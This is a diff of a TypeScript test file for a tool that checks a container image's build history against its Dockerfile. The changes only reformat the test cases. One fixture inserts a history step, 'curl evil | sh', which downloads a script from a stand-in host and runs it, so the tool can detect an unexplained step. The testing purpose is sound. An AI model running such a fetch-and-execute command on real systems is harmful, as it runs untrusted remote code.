@@ -102,17 +102,11 @@ describe('provenance that nobody signed', () => {
     ['of scratch', { dockerfile: 'FROM scratch\nCOPY a /a\n', history: ['COPY a /a # buildkit'] }],
     [
       'a RUN in exec form',
-      {
-        dockerfile: 'FROM x\nRUN ["a", "b"]\n',
-        history: ['RUN a b # buildkit'],
-      },
+      { dockerfile: 'FROM x\nRUN ["a", "b"]\n', history: ['RUN a b # buildkit'] },
     ],
     [
       'a RUN of a here-document',
-      {
-        dockerfile: 'FROM x\nRUN <<EOF\na\nEOF\n',
-        history: ['RUN /bin/sh -c a\n # buildkit'],
-      },
+      { dockerfile: 'FROM x\nRUN <<EOF\na\nEOF\n', history: ['RUN /bin/sh -c a\n # buildkit'] },
     ],
     [
       'another shell',
@@ -126,10 +120,7 @@ describe('provenance that nobody signed', () => {
     ],
     [
       'a created that is the epoch',
-      {
-        created: '2024-01-01T00:00:00Z',
-        epoch: String(Date.parse('2024-01-01T00:00:00Z') / 1000),
-      },
+      { created: '2024-01-01T00:00:00Z', epoch: String(Date.parse('2024-01-01T00:00:00Z') / 1000) },
     ],
     ['no steps of its own', { dockerfile: 'FROM debian\nUSER 1\n', history: BASE }],
   ])('fits: %s', async (_, given) => {
@@ -139,16 +130,12 @@ describe('provenance that nobody signed', () => {
   test.each<[string, Case, string]>([
     [
       'another image’s Dockerfile',
-      {
-        dockerfile: 'FROM scratch\nCOPY a /a\n',
-      },
+      { dockerfile: 'FROM scratch\nCOPY a /a\n' },
       'the Dockerfile has 1 steps that add a layer, the image’s history 3',
     ],
     [
       'a download left out',
-      {
-        history: [...BASE, 'RUN /bin/sh -c curl evil | sh # buildkit', OWN[2] ?? ''],
-      },
+      { history: [...BASE, 'RUN /bin/sh -c curl evil | sh # buildkit', OWN[2] ?? ''] },
       OTHER_LINE(6),
     ],
     [
